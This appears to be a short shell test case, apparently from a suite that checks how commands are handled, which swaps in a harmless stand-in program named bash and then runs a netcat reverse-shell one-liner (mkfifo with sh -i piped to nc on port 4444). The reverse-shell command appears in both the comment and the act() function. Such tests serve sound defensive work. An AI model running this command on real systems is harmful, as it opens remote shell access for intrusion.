# `bash -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f'`, with a harmless program by the name of bash.
prepare() { stand_in bash; }
act() { bash -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f'; }
